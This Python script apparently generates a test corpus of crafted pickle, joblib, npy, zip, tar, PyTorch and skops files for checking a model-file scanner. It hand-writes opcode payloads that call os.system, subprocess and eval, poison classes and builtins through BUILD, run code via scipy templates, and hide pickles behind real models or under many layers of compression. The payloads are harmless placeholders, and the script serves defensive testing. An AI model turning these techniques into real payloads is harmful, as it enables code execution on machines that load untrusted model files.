"""Makes the files of this folder: ``python make.py`` (numpy, joblib, lz4, scikit-learn and skops installed).

Each file tries to have Python run something when it is loaded. The payloads do no harm: ``os.system("true")`` at most.
Nothing here is loaded: opcodes are written by hand, calls by objects whose ``__reduce__`` names a function.
A second run writes the same bytes. ``index.json`` says what each file tries.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import tarfile
import zipfile
import zlib

import joblib
import numpy as np
from archives import archives
from attributes_ import attributes
from graphs import graphs
from numbers_ import numbers
from schemas import schemas
from unbounded import unbounded

INDEX = {}
STEP = (1980, 1, 1, 0, 0, 0)


def write(name, content, tries):
    assert name not in INDEX, name
    assert len(content) < 500_000, name
    with open(name, "wb") as file:
        file.write(content)
    INDEX[name] = tries


class Call:
    """Pickles as a call: of ``function`` with ``arguments``, then perhaps with a state."""

    def __init__(self, function, *arguments, state=None):
        self.function, self.arguments, self.state = function, arguments, state

    def __reduce__(self):
        return (self.function, self.arguments) + (() if self.state is None else (self.state,))


class Name:
    """Pickles as a name of a module, whether it exists or not."""

    def __init__(self, module, name):
        self.__module__, self.__qualname__ = module, name


class Pickler(pickle._Pickler):
    """Writes ``Name`` as it is, without looking it up."""

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Name):
            module, name = obj.__module__, obj.__qualname__
            if self.proto >= 4:
                self.save(module)
                self.save(name)
                self.write(pickle.STACK_GLOBAL)
            else:
                self.write(pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n")
        elif isinstance(obj, Call):
            self.save(obj.function)
            self.save(obj.arguments)
            self.write(pickle.REDUCE)
            if obj.state is not None:
                self.save(obj.state)
                self.write(pickle.BUILD)
        else:
            super().save(obj, save_persistent_id)


def dumps(value, protocol=4):
    out = io.BytesIO()
    Pickler(out, protocol).dump(value)
    return out.getvalue()


SYSTEM = Name("posix", "system")
BENIGN = dumps({"coef_": [1.0, 2.0]})


def system():
    return Call(SYSTEM, "true")


def text(module, name, argument):
    """A call in protocol 0."""
    return b"c%s\n%s\n(S'%s'\ntR." % (module.encode(), name.encode(), argument.encode())


def unicode(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def names():
    """Functions that do harm, called plainly."""
    rows = [
        ("os", "system", ("true",)), ("posix", "system", ("true",)), ("nt", "system", ("true",)),
        ("os", "popen", ("true",)), ("os", "execv", ("/bin/true", ["true"])), ("os", "remove", ("/nonexistent",)),
        ("os", "putenv", ("A", "B")), ("subprocess", "Popen", ("true",)), ("subprocess", "check_output", ("true",)),
        ("subprocess", "run", (["true"],)), ("pty", "spawn", ("true",)), ("commands", "getoutput", ("true",)),
        ("builtins", "eval", ("1+1",)), ("builtins", "exec", ("pass",)), ("builtins", "compile", ("1", "", "eval")),
        ("builtins", "__import__", ("antigravity",)), ("builtins", "open", ("/dev/null",)),
        ("builtins", "getattr", ("", "join")), ("builtins", "breakpoint", ()), ("__builtin__", "eval", ("1+1",)),
        ("__builtin__", "execfile", ("/dev/null",)), ("importlib", "import_module", ("this",)),
        ("runpy", "run_path", ("/dev/null",)), ("runpy", "_run_code", ("pass", {})), ("code", "interact", ()),
        ("timeit", "timeit", ("pass",)), ("cProfile", "run", ("pass",)), ("pdb", "run", ("pass",)),
        ("bdb", "Bdb", ()), ("doctest", "debug_script", ("pass",)), ("pydoc", "locate", ("os.system",)),
        ("pydoc", "pipepager", ("", "true")), ("pip", "main", (["--version"],)), ("idlelib.pyshell", "ModifiedInterpreter", ()),
        ("socket", "create_connection", (("127.0.0.1", 9),)), ("urllib.request", "urlopen", ("http://127.0.0.1:9/",)),
        ("requests.api", "get", ("http://127.0.0.1:9/",)), ("http.client", "HTTPSConnection", ("127.0.0.1",)),
        ("smtplib", "SMTP", ("127.0.0.1", 9)), ("webbrowser", "open", ("about:blank",)), ("ctypes", "CDLL", ("libc.so.6",)),
        ("ctypes", "string_at", (0,)), ("shutil", "rmtree", ("/nonexistent",)), ("tempfile", "mkdtemp", ()),
        ("pathlib", "Path.unlink", ("/nonexistent",)), ("io", "open", ("/dev/null",)), ("_io", "FileIO", ("/dev/null",)),
        ("pickle", "loads", (BENIGN,)), ("_pickle", "loads", (BENIGN,)), ("joblib", "load", ("/dev/null",)),
        ("joblib.numpy_pickle", "load", ("/dev/null",)), ("cloudpickle", "loads", (BENIGN,)), ("dill", "loads", (BENIGN,)),
        ("marshal", "loads", (b"N",)), ("shelve", "open", ("/nonexistent",)), ("torch", "load", ("/dev/null",)),
        ("torch.hub", "load", ("a", "b")), ("numpy", "load", ("/dev/null",)), ("numpy", "fromfile", ("/dev/null",)),
        ("numpy", "memmap", ("/dev/null",)), ("numpy.f2py.crackfortran", "getlincoef", ("1", [])),
        ("numpy.f2py", "run_main", ([],)), ("numpy.testing._private.utils", "runstring", ("pass", {})),
        ("numpy.distutils.exec_command", "exec_command", ("true",)), ("numpy.lib.npyio", "load", ("/dev/null",)),
        ("pandas", "read_pickle", ("/dev/null",)), ("pandas", "eval", ("1+1",)),
        ("pandas.core.computation.eval", "eval", ("1+1",)), ("scipy.io", "loadmat", ("/dev/null",)),
        ("operator", "attrgetter", ("system",)), ("operator", "methodcaller", ("system", "true")),
        ("operator", "itemgetter", (0,)), ("functools", "reduce", (SYSTEM, ["true"])), ("itertools", "starmap", (SYSTEM, [["true"]])),
        ("types", "FunctionType", (None, {})), ("types", "CodeType", ()), ("sys", "exit", (0,)),
        ("sys", "setrecursionlimit", (1000,)), ("atexit", "register", (SYSTEM, "true")), ("signal", "alarm", (0,)),
        ("threading", "Timer", (0, SYSTEM)), ("multiprocessing", "Process", ()), ("asyncio", "run", (None,)),
        ("sqlite3", "connect", (":memory:",)), ("logging.config", "dictConfig", ({},)), ("linecache", "getlines", ("/dev/null",)),
        ("codecs", "open", ("/dev/null",)), ("_codecs", "lookup", ("hex",)), ("copyreg", "add_extension", ("os", "system", 1)),
        ("uuid", "_get_command_stdout", ("true",)), ("platform", "popen", ("true",)), ("site", "addsitedir", ("/nonexistent",)),
        ("setuptools._distutils.file_util", "copy_file", ("a", "b")), ("distutils.spawn", "spawn", (["true"],)),
        ("unittest.mock", "_importer", ("os",)), ("test.support.script_helper", "assert_python_ok", ("-c", "pass")),
        ("cgitb", "lookup", ("a", None, {})), ("gc", "get_objects", ()), ("inspect", "getsource", (None,)),
        ("zipimport", "zipimporter", ("/nonexistent",)), ("sklearn.externals.joblib", "load", ("/dev/null",)),
        ("sklearn.utils._testing", "assert_run_python_script_without_output", ("pass",)),
        ("sklearn.datasets", "fetch_openml", ("iris",)), ("sklearn.datasets._base", "load_files", ("/nonexistent",)),
        ("somebody.elses", "thing", ()), ("sklearn_extra_of_a_stranger", "Model", ()), ("sklearn", "nothing_known", ()),
    ]
    for module, name, arguments in rows:
        write(f"call-{module}.{name}.pkl", dumps(Call(Name(module, name), *arguments)), f"calls {module}.{name}")


def protocols():
    for protocol in range(6):
        write(f"plain-p{protocol}.pkl", dumps(system(), protocol), f"calls posix.system in protocol {protocol}")
        model = {"steps": [["a", {"coef_": [1.0]}], ["b", system()]]}
        write(f"deep-p{protocol}.pkl", dumps(model, protocol), f"calls it deep in a dict, protocol {protocol}")
        popped = pickle.PROTO + bytes([protocol]) if protocol > 1 else b""
        body = b"cposix\nsystem\n(S'true'\ntR0N."
        write(f"popped-p{protocol}.pkl", popped + body, f"throws the result away and gives None, protocol {protocol}")
    for python2, what in [("__builtin__ eval", "1"), ("commands getoutput", "true"), ("os system", "true")]:
        module, name = python2.split()
        write(f"python2-{module}.{name}.pkl", text(module, name, what), f"calls Python 2's {module}.{name} in protocol 0")


def opcodes():
    """Names and calls in unusual opcodes."""
    true, head = unicode("true"), b"\x80\x04"
    system_ = unicode("posix") + unicode("system") + b"\x93"
    write("inst.pkl", b"(S'true'\niposix\nsystem\n.", "INST calls what it names")
    write("obj.pkl", b"(cposix\nsystem\nS'true'\no.", "OBJ calls what lies under its arguments")
    write("newobj.pkl", b"\x80\x02csubprocess\nPopen\n(S'true'\nt\x81.", "NEWOBJ of a dangerous class")
    write("newobj-ex.pkl", head + unicode("subprocess") + unicode("Popen") + b"\x93(" + true + b"t}\x92.", "NEWOBJ_EX")
    write("global-only.pkl", b"cposix\nsystem\n.", "only names a function, and calls nothing")
    write("import-only.pkl", b"cstranger\nx\n0N.", "imports a module and throws it away")
    write("memo.pkl", head + unicode("posix") + b"\x94" + b"0" + unicode("system") + b"\x94" + b"0h\x00h\x01\x93" + true + b"\x85R.",
          "STACK_GLOBAL takes both names from the memo")
    write("memo-put.pkl", head + unicode("posix") + b"q\x07" + b"0" + unicode("system") + b"r\xff\x00\x00\x000"
          + b"h\x07j\xff\x00\x00\x00\x93" + true + b"\x85R.", "names lie in the memo under numbers of their own")
    write("memo-overwritten.pkl", head + unicode("collections") + b"q\x000" + unicode("posix") + b"q\x000"
          + b"h\x00" + unicode("system") + b"\x93" + true + b"\x85R.", "a place in the memo is used twice")
    write("dup.pkl", head + unicode("posix") + unicode("x") + b"0" + unicode("system") + b"2" + b"0\x93" + true + b"\x85R.",
          "DUP and POP between the two names")
    write("mark.pkl", head + unicode("posix") + b"(" + unicode("a") + unicode("b") + b"1" + unicode("system") + b"\x93" + true + b"\x85R.",
          "a mark and its values are thrown away between the two names")
    write("byte-names.pkl", b"\x80\x04U\x05posixU\x06system\x93" + true + b"\x85R.", "names as byte strings of Python 2")
    write("callable-in-memo.pkl", head + system_ + b"\x940" + b"h\x00" + true + b"\x85R.", "the function comes out of the memo")
    write("reduce-object.pkl", head + unicode("operator") + unicode("attrgetter") + b"\x93" + unicode("x") + b"\x85R" + true + b"\x85R.",
          "calls what another call made")
    write("reduce-list.pkl", head + system_ + b"]" + true + b"aR.", "the arguments are a list")
    for kind, code in [("ext1", b"\x82\x05"), ("ext2", b"\x83\x05\x01"), ("ext4", b"\x84\x05\x00\x01\x00")]:
        write(f"{kind}.pkl", b"\x80\x02" + code + b"(S'true'\ntR.", f"{kind.upper()} names something by number")
    write("persid.pkl", b"Psystem\n.", "PERSID leaves the meaning to the program")
    write("binpersid.pkl", b"\x80\x02U\x06systemQ.", "BINPERSID leaves the meaning to the program")
    write("buffer.pkl", b"\x80\x05\x97.", "asks for a buffer that is not in the file")
    frame = system_ + true + b"\x85R."
    write("frames.pkl", head + b"\x95" + struct.pack("<Q", 4) + frame, "an operand begins in a frame and ends behind it")
    write("frame-left.pkl", head + b"\x95" + struct.pack("<Q", 2 + len(frame)) + b"N." + frame, "a pickle behind STOP in the same frame")
    write("escaped-name.pkl", b"\x80\x00" + b"Vposix\nVsy\\u0073tem\n\x93(S'true'\ntR.", "a name in escapes")


def walks():
    """Dotted names, attributes, partial functions."""
    for module, name in [
        ("builtins", "eval.__call__"), ("numpy", "size.__builtins__"), ("numpy", "f2py.os.system"), ("sklearn", "os.system"),
        ("joblib.numpy_pickle", "os.system"), ("sklearn.base", "BaseEstimator.__class__"), ("sklearn.svm._classes", "SVC.__init__"),
        ("sklearn.svm._classes", "SVC.__init__.__globals__"), ("numpy.core.multiarray", "sys.modules"),
        ("sklearn.utils.validation", "warnings.sys.modules"), ("collections", "OrderedDict.fromkeys"),
        ("collections", "_sys.modules"), ("functools", "partial.__new__"), ("numpy.random._pickle", "MT19937.__class__"),
        ("datetime", "sys.exit"), ("re", "_compile.__globals__"),
    ]:
        for protocol in (2, 4):
            write(f"dotted-{module}-{name}-p{protocol}.pkl", dumps(Call(Name(module, name), "true"), protocol),
                  f"reaches {name} through {module}, protocol {protocol}")
    for what, function in [("system", SYSTEM), ("eval", Name("builtins", "eval")), ("stranger", Name("stranger", "f"))]:
        state = (function, ("true",), {}, None)
        write(f"partial-{what}.pkl", dumps(Call(Name("functools", "partial"), function, state=state)), f"a partial function of {what}")
        known = Name("numpy", "log")
        write(f"partial-state-{what}.pkl", dumps(Call(Name("functools", "partial"), known, state=state)),
              f"a partial function of numpy.log becomes one of {what} by its state")
    get = Name("builtins", "getattr")
    write("getattr-walk.pkl", dumps(Call(Call(get, Name("numpy", "ndarray"), "__class__"), "x")), "getattr on a class of the list")
    write("getattr-chain.pkl", dumps(Call(Call(get, Call(get, Name("sklearn.svm._classes", "SVC"), "__init__"), "__globals__"), "x")),
          "getattr on getattr")
    write("ufunc.pkl", dumps(Call(Name("numpy.core", "_ufunc_reconstruct"), "os", "system")), "numpy imports a module by name")
    write("ufunc-this.pkl", dumps(Call(Name("numpy.core", "_ufunc_reconstruct"), "this", "s")), "numpy imports a module by name")
    write("codec.pkl", dumps(Call(Name("_codecs", "encode"), "x", "stranger")), "a codec is a module, imported by name")
    write("defaultdict.pkl", dumps(Call(Name("collections", "defaultdict"), SYSTEM)), "a dict whose factory is a function")
    write("vectorize.pkl", dumps(Call(Name("copyreg", "__newobj__"), Name("numpy", "vectorize"), state={"pyfunc": SYSTEM})), "numpy.vectorize of it")
    write("function-transformer.pkl", dumps(Call(Name("copyreg", "__newobj__"), Name("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
          state={"func": SYSTEM, "inverse_func": None})), "an estimator calls it at transform")
    write("function-transformer-load.pkl", dumps(Call(Name("copyreg", "__newobj__"),
          Name("sklearn.preprocessing._function_transformer", "FunctionTransformer"), state={"func": Name("numpy", "load")})),
          "an estimator calls numpy.load at transform")
    write("reconstructor.pkl", dumps(Call(Name("copyreg", "_reconstructor"), Name("subprocess", "Popen"), Name("builtins", "object"), None)),
          "copyreg makes an object of a dangerous class")
    write("reconstructor-base.pkl", dumps(Call(Name("copyreg", "_reconstructor"), Name("sklearn.svm._classes", "SVC"), Name("stranger", "B"), 1)),
          "copyreg calls __new__ and __init__ of a stranger's base")
    write("newobj-pyx.pkl", dumps(Call(Name("sklearn._loss._loss", "__pyx_unpickle_CyHuberLoss"), Name("stranger", "C"), 1, (1.0,))),
          "Cython's constructor calls __new__ of a stranger's class")
    write("newobj-tree.pkl", dumps(Call(Name("sklearn.neighbors._kd_tree", "newObj"), Name("stranger", "C"))), "newObj of a stranger's class")
    write("random-ctor.pkl", dumps(Call(Name("numpy.random._pickle", "__randomstate_ctor"), "MT19937", SYSTEM)),
          "numpy calls the constructor that it is given")
    write("index.pkl", dumps(Call(Name("pandas.core.indexes.base", "_new_Index"), Name("stranger", "C"), {})), "pandas makes an object of any class")
    write("huge-array.pkl", dumps(Call(Name("numpy.core.multiarray", "_reconstruct"), Name("numpy", "ndarray"), (10**15,), b"b")), "an array of a petabyte")
    write("huge-bytes.pkl", dumps(Call(Name("builtins", "bytearray"), 10**15)), "a bytearray of a petabyte")


def poison():
    """BUILD that changes classes, or what the next opcodes call."""
    svc = Name("sklearn.svm._classes", "SVC")
    new = Name("copyreg", "__newobj__")

    for protocol in (2, 4):
        for what, target in [("class", svc), ("module-dict", Name("numpy", "ndarray"))]:
            body = dumps(target, protocol)[:-1] + b"}(U\x0b__setstate__cposix\nsystem\nub."
            write(f"build-{what}-p{protocol}.pkl", body, f"changes an attribute of a {what}, protocol {protocol}")
    write("build-environ.pkl", b"cos\nenviron\nS'A'\nS'B'\ns.", "SETITEM on the environment")
    write("build-builtins.pkl", b"c__builtin__\n__dict__\nS'len'\ncposix\nsystem\ns.", "replaces a builtin function")
    write("build-modules.pkl", b"csys\nmodules\nS'sklearn'\ncos\npath\ns.", "replaces a module")
    write("setstate-twice.pkl", b"\x80\x04" + unicode("sklearn.svm._classes") + unicode("SVC") + b"\x93)\x81}" + unicode("__setstate__")
          + b"cbuiltins\nprint\nsb" + unicode("true") + b"b.", "the first state says what the second is handed to")
    write("slots.pkl", dumps(Call(new, svc, state=(None, {"__class__": Name("sklearn.svm._classes", "SVR")}))), "a state for slots sets __class__")
    write("append-method.pkl", b"\x80\x04" + unicode("sklearn.svm._classes") + unicode("SVC") + b"\x93)\x81}" + unicode("append")
          + b"cbuiltins\nprint\nsb" + unicode("true") + b"a.", "an attribute named append is called by APPEND")
    template = "\nimport os\nos.getpid()\ndef _parse_args(self): pass\n_parse_args_rvs = _parse_args_stats = _parse_args\n"
    uniform = Name("scipy.stats._continuous_distns", "uniform_gen")
    write("scipy-template.pkl", dumps(Call(new, uniform, state={"shapes": None, "_parse_arg_template": template})),
          "scipy executes the text _parse_arg_template of a distribution's state")
    own = ("\ndef _parse_args(self, {0} loc=0, scale=1):\n    return ({0}), loc, scale\n\ndef _parse_args_rvs(self, {0} loc=0, scale=1, size=None):\n"
           "    return self._argcheck_rvs({0} loc, scale, size=size)\n\ndef _parse_args_stats(self, {0} loc=0, scale=1, moments='mv'):\n"
           "    return ({0}), loc, scale, moments\n").format("a=print('run'), ")
    write("scipy-shapes.pkl", dumps(Call(new, uniform, state={"shapes": "a=print('run')", "_parse_arg_template": own})),
          "the same, by the names of the parameters")
    write("scipy-pairs.pkl", dumps(Call(new, uniform, state=[["_parse_arg_template", template]])), "the same, by a state that is a list of pairs")
    write("scipy-two-keys.pkl", dumps(Call(new, uniform, state=({"_parse_arg_template": 1, template: 2}, "ab"))),
          "the same, by a dict of two keys that update takes for a pair")


def places():
    """Where the pickle stands: behind others, behind garbage, in byte strings."""
    for protocol in (0, 2, 4):
        bad = dumps(system(), protocol)
        write(f"second-p{protocol}.pkl", BENIGN + bad, f"a second pickle, protocol {protocol}")
        write(f"third-p{protocol}.pkl", BENIGN + BENIGN + bad, f"a third pickle, protocol {protocol}")
        write(f"behind-garbage-p{protocol}.pkl", BENIGN + b"\x00garbage\xff\n" + bad, f"behind a pickle and garbage, protocol {protocol}")
        write(f"garbage-first-p{protocol}.pkl", b"\x00\x01\x02\xff\n" + bad, f"behind garbage, protocol {protocol}")
        write(f"broken-after-p{protocol}.pkl", bad[:-1] + b"\xff\xff", f"breaks after the call, protocol {protocol}")
        write(f"cut-p{protocol}.pkl", bad[:-1], f"ends before STOP, protocol {protocol}")
        write(f"broken-then-p{protocol}.pkl", b"\x80\x04\x93" + bad, f"a broken pickle, then this one, protocol {protocol}")
    for module, name in [("pickle", "loads"), ("_pickle", "loads"), ("cloudpickle", "loads"), ("dill", "loads")]:
        inner = dumps(system(), 2)
        write(f"nested-{module}.{name}.pkl", dumps(Call(Name(module, name), inner)), f"{module}.{name} of a byte string")
    twice = dumps(Call(Name("pickle", "loads"), dumps(Call(Name("pickle", "loads"), dumps(system())))))
    write("nested-twice.pkl", twice, "loads of loads")
    write("nested-zlib.pkl", dumps(Call(Name("pickle", "loads"), Call(Name("zlib", "decompress"), zlib.compress(dumps(system()))))), "loads of compressed bytes")


def behind_models():
    """A real model, and something behind it that no loader of the first pickle sees."""
    for example in ("iris-svc.joblib", "balance-scale-tree.pkl"):
        with open(os.path.join("..", "examples", example), "rb") as file:
            model = file.read()
        write(f"model-then-{example}", model + dumps(system()), f"{example} of the examples with a second pickle behind it")
        write(f"model-then-garbage-{example}", model + b"\x00\x01" + dumps(system()), f"{example}, garbage, and a second pickle")


def joblibs():
    clean = {"coef_": np.arange(40.0).reshape(8, 5)}
    for name, compress, extension in [
        ("raw", 0, "joblib"), ("zlib", ("zlib", 3), "joblib.z"), ("gzip", ("gzip", 3), "joblib.gz"), ("bz2", ("bz2", 3), "joblib.bz2"),
        ("xz", ("xz", 3), "joblib.xz"), ("lzma", ("lzma", 3), "joblib.lzma"), ("lz4", ("lz4", 3), "joblib.lz4"),
    ]:
        for what, value in [
            ("after", [clean, Call(os.system, "true")]), ("before", [Call(os.system, "true"), clean]),
            ("objects", np.array([1, Call(os.system, "true"), "x"], dtype=object)), ("popen", {"a": clean, "b": Call(os.popen, "true")}),
        ]:
            out = io.BytesIO()
            joblib.dump(value, out, compress=0)
            packed = pack(name, out.getvalue())
            write(f"joblib-{name}-{what}.{extension}", packed, f"joblib, {name}: the call stands {what} the array" if what != "objects"
                  else f"joblib, {name}: in an array of objects")
    out = io.BytesIO()
    joblib.dump(clean, out)
    honest = out.getvalue()
    payload = np.frombuffer(text("posix", "system", "true"), dtype=np.uint8)
    write("joblib-polyglot.pkl", polyglot(payload), "an array of joblib's old layout whose elements are opcodes for pickle.load")
    write("joblib-polyglot-second.joblib", honest + polyglot(payload), "the same, as the second pickle in a row")
    frame = Name("pandas.core.frame", "DataFrame")
    first = dumps(Call(Name("copyreg", "__newobj__"), frame), 2)[2:-1] + dumps({"_mgr": None, "__class__": Name("scipy.stats._continuous_distns", "uniform_gen")}, 2)[2:-1]
    opcodes = first + b"b" + dumps({"_parse_arg_template": "\ndef _parse_args(self): pass\n", "shapes": None}, 2)[2:-1] + b"b"
    write("polyglot-classes.joblib", polyglot(np.frombuffer(opcodes, dtype=np.uint8)), "the same, with names of the list alone")
    write("joblib-second.joblib", honest + dumps(system()), "a second pickle behind joblib's")
    write("joblib-trailing-gzip.joblib", gzipped(honest) + dumps(system()), "a pickle behind the gzip stream")


def polyglot(payload):
    """A wrapper without alignment: the elements follow BUILD at once."""
    head = b"\x80\x04" + unicode("joblib.numpy_pickle") + unicode("NumpyArrayWrapper") + b"\x93)\x81}("
    head += unicode("subclass") + unicode("numpy") + unicode("ndarray") + b"\x93"
    head += unicode("shape") + b"K" + bytes([len(payload)]) + b"\x85" + unicode("order") + unicode("C")
    head += unicode("dtype") + unicode("numpy") + unicode("dtype") + b"\x93" + unicode("u1") + b"\x89\x88\x87R"
    head += b"(K\x03" + unicode("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    head += unicode("allow_mmap") + b"\x88ub"
    return head + payload.tobytes() + b"."


def pack(codec, content):
    if codec == "raw":
        return content
    if codec == "zlib":
        return zlib.compress(content, 3)
    if codec == "gzip":
        return gzipped(content, 3)
    if codec == "bz2":
        return bz2.compress(content, 3)
    if codec == "xz":
        return lzma.compress(content, preset=3)
    if codec == "lzma":
        return lzma.compress(content, format=lzma.FORMAT_ALONE, preset=3)
    import lz4.frame

    return lz4.frame.compress(content, 3)


def gzipped(content, level=9):
    """gzip with a header that is the same with every Python."""
    packed = bytearray(gzip.compress(content, level, mtime=0))
    packed[8:10] = b"\x02\xff" if level == 9 else b"\x00\xff"
    return bytes(packed)


def zipped(entries, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name, STEP), content, compress_type=method)
    return out.getvalue()


def tarred(entries, kind=tarfile.PAX_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=kind) as archive:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def npy(array):
    out = io.BytesIO()
    np.lib.format.write_array(out, array, allow_pickle=True)
    return out.getvalue()


def containers():
    bad = dumps(system())
    objects = np.array([1, Call(os.system, "true")], dtype=object)
    write("objects.npy", npy(objects), "an array of objects is a pickle")
    write("objects.npz", zipped([("x.npy", npy(np.arange(3))), ("y.npy", npy(objects))]), "one array of many holds objects")
    write("behind-array.npy", npy(np.arange(3)) + bad, "a pickle behind an array")
    for name, method in [("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED), ("bzip2", zipfile.ZIP_BZIP2)]:
        write(f"one-{name}.zip", zipped([("model.pkl", bad)], method), f"a zip with one entry, {name}")
        write(f"several-{name}.zip", zipped([("readme.txt", b"hello"), ("a/b/c.bin", bad)], method), f"an entry with a harmless name, {name}")
    write("zip-in-zip.zip", zipped([("inner.zip", zipped([("model.pkl", bad)]))]), "a zip in a zip")
    damaged = bytearray(zipped([("model.pkl", bad)], zipfile.ZIP_STORED))
    place = damaged.rindex(b"PK\x01\x02")
    damaged[place + 16] ^= 0xFF
    write("zip-checksum.zip", bytes(damaged), "a zip with a wrong checksum")
    damaged = bytearray(zipped([("model.pkl", bad)], zipfile.ZIP_STORED))
    damaged[damaged.rindex(b"PK\x01\x02") + 8] |= 1
    write("zip-flag.zip", bytes(damaged), "a zip that claims to be encrypted")
    write("zip-prefix.pkl", bad + zipped([("x.txt", b"hello")]), "a pickle in front of a zip")
    write("torch.pt", zipped([("archive/data.pkl", bad), ("archive/version", b"3\n"), ("archive/data/0", bytes(64))], zipfile.ZIP_STORED),
          "PyTorch's zip")
    write("torch-stacked.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
          + dumps(system(), 2), "PyTorch's legacy pickles in a row")
    write("torch-legacy.tar", tarred([("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2)), ("pickle", dumps(system(), 2))]),
          "PyTorch's legacy tar")
    for name, kind in [("pax", tarfile.PAX_FORMAT), ("gnu", tarfile.GNU_FORMAT), ("ustar", tarfile.USTAR_FORMAT)]:
        write(f"{name}.tar", tarred([("readme", b"hello"), ("model.pkl", bad)], kind), f"a tar, {name}")
    write("tar-gzip.tar.gz", gzipped(tarred([("model.pkl", bad)])), "a tar in gzip")
    write("tar-polyglot.tar", tarred([("cposix\nsystem\n(S'true'\ntR.", b"")], tarfile.USTAR_FORMAT), "a tar whose first name is a pickle")
    for name in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        write(f"pickle-{name}.pkl", pack(name, bad), f"a pickle in {name}")
    write("gzip-in-gzip.pkl.gz", gzipped(gzipped(bad)), "gzip in gzip")
    layers = bad
    for name in ("gzip", "bz2", "xz", "zlib", "gzip", "bz2"):
        layers = pack(name, layers)
    write("six-layers.pkl", layers, "six layers of compression")
    for _ in range(20):
        layers = zlib.compress(layers)
    write("many-layers.pkl", layers, "more layers than anybody looks through")
    write("cut-gzip.pkl.gz", gzipped(bad)[:-12], "a gzip stream that is cut")
    write("array-in-gzip-in-zip.zip", zipped([("x.gz", gzipped(npy(objects)))]), "an array of objects in gzip in a zip")


def skops():
    def schema(node):
        return json.dumps({**node, "protocol": 2, "_skops_version": "0.16.0"}).encode()

    def node(module, name, loader, number, content=None, **more):
        return {"__class__": name, "__module__": module, "__loader__": loader, "__id__": number, "content": content, **more}

    rows = [
        ("function", node("posix", "system", "FunctionNode", 1)), ("type", node("subprocess", "Popen", "TypeNode", 1)),
        ("object", node("stranger", "Model", "ObjectNode", 1)), ("loader", node("stranger", "Model", "StrangersNode", 1)),
        ("operator", node("operator", "attrgetter", "OperatorFuncNode", 1,
                          attrs=node("builtins", "tuple", "TupleNode", 2, [node("builtins", "str", "JsonNode", 3, '"system"', is_json=True)]))),
        ("method", node("builtins", "method", "MethodNode", 1,
                        {"func": "__reduce__", "obj": node("sklearn.svm._classes", "SVC", "ObjectNode", 2)})),
        ("list", node("builtins", "list", "ListNode", 1, [node("builtins", "eval", "FunctionNode", 2)])),
    ]
    for name, root in rows:
        write(f"skops-{name}.skops", zipped([("schema.json", schema(root))]), f"a skops file with a {name} that is not on the list")
    innocent = node("builtins", "list", "ListNode", 1, [])
    write("skops-extra.skops", zipped([("schema.json", schema(innocent)), ("1.bin", dumps(system()))]), "a skops file with a pickle beside it")


def pandas_states():
    """States that pandas takes apart in Python, attribute by attribute."""
    template = "\nimport os\nos.getpid()\ndef _parse_args(self): pass\n_parse_args_rvs = _parse_args_stats = _parse_args\n"
    uniform = Name("scipy.stats._continuous_distns", "uniform_gen")

    def body(value):
        return dumps(value, 2)[2:-1]

    for module, name in [("pandas.core.frame", "DataFrame"), ("pandas.core.series", "Series"), ("pandas.core.arrays.categorical", "Categorical")]:
        made = body(Call(Name("copyreg", "__newobj__"), Name(module, name)))
        first = body({"_typ": "x", "_mgr": None, "_categories": None, "__class__": uniform})
        second = body({"_parse_arg_template": template, "shapes": None})
        write(f"class-of-{name}.pkl", b"\x80\x02" + made + first + b"b" + second + b"b.",
              f"a state of {name} makes it a distribution of scipy, which executes the text of the second state")
    for module, name in [("pandas.core.arrays.timedeltas", "TimedeltaArray"), ("pandas.core.arrays.categorical", "Categorical")]:
        empty = Call(Name("copyreg", "__newobj__"), Name(module, name))
        write(f"work-empty-{name}.pkl", dumps(empty), "an array of pandas without its array: compiled code follows a null pointer")
    booster = Name("xgboost.core", "Booster")
    write("partial-booster.pkl", dumps(Call(Name("functools", "partial"), booster, state=(booster, (), {"model_file": "/nonexistent"}, None))),
          "a partial function that opens a file, or an address, when it is called")
    log = Name("numpy", "log")
    write("partial-setstate.pkl", dumps(Call(Name("functools", "partial"), log, state=(log, (), {}, {"__setstate__": Name("numpy", "sum")}))),
          "a partial function with a __setstate__ of its own")
    write("masked-shape.pkl", dumps(Call(Name("numpy.ma.core", "_mareconstruct"), Name("numpy.ma.core", "MaskedArray"), Name("numpy", "ndarray"), (10**15,), b"b")),
          "a masked array of a petabyte")
    pointer = Call(Name("numpy", "dtype"), "O8", False, True, state=(3, "|", None, None, None, -1, -1, 63))
    write("scalar-object.pkl", dumps(Call(Name("numpy.core.multiarray", "scalar"), pointer, b"x" * 8)), "a scalar whose bytes are an address")


SCRIPTS = ("make.py", "archives.py", "attributes_.py", "graphs.py", "numbers_.py", "schemas.py", "unbounded.py", "zips.py", "README.md", ".gitattributes")

if __name__ == "__main__":
    # Files of this folder are removed, and of no other.
    os.chdir(os.path.dirname(os.path.abspath(__file__)))
    for old in os.listdir("."):
        if old not in SCRIPTS and os.path.isfile(old):
            os.remove(old)
    for part in (names, protocols, opcodes, walks, poison, pandas_states, places, behind_models, joblibs, containers, skops):
        part()
    array = npy(np.array([1, Call(os.system, "true")], dtype=object))
    archives(write, zipped, tarred, dumps(system()), BENIGN, array, npy(np.arange(40.0)))
    schemas(write, zipped)
    graphs(write)
    numbers(write, zipped, INDEX)
    attributes(write, zipped, dumps, Call, Name)
    unbounded(write)
    with open("index.json", "w", newline="\n") as file:
        json.dump(dict(sorted(INDEX.items())), file, indent=1)
        file.write("\n")
    shutil.rmtree("__pycache__", ignore_errors=True)
    print(len(INDEX), "files")
